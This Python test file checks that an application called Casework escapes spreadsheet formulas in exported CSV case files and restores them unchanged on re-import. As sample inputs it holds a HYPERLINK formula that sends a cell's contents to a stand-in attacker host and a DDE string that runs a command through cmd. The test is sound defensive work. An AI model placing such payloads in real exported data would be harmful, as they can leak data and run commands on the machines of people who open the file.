"""A name or plan written as a spreadsheet formula leaves Casework as text, and comes back as it
was typed when the file is imported again."""

from __future__ import annotations

from typing import Any

from casework.cases.models import Case
from casework.interchange import container
from casework.interchange.example import load_example
from casework.interchange.exporter import export_cases
from casework.interchange.importer import import_cases
from casework.interchange.tests.conftest import consent_to_export
from casework.people.models import Person

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
COMMAND = "+cmd|' /C calc'!A0"


def test_exported_formulas_are_text_and_round_trip(paul: Any) -> None:
    load_example()
    person = Person.objects.get(reference="P1100001")
    person.given_name, person.family_name = FORMULA, COMMAND
    person.save(update_fields=["given_name", "family_name"])  # encrypted for its agency
    consent_to_export()
    export = export_cases(
        by=paul, with_names=True, recipient_name="Cluster Lead", password="a long pass phrase"
    )
    files = container.open_container(export.sealed or b"", "a long pass phrase")
    text = files["cases.csv"].decode()
    assert "'" + FORMULA.replace('"', '""') in text
    assert "'" + COMMAND in text
    for line in text.splitlines():
        for cell in line.split(","):
            assert not cell.startswith(("=", "+", "@")), cell
    Case.objects.all().delete()
    Person.objects.all().delete()
    result = import_cases(
        cases=files["cases.csv"], surveys=files["surveys.csv"], by=paul, own_agency_only=True
    )
    assert result.errors == []
    person = Person.objects.get(reference="P1100001")
    assert (person.given_name, person.family_name) == (FORMULA, COMMAND)
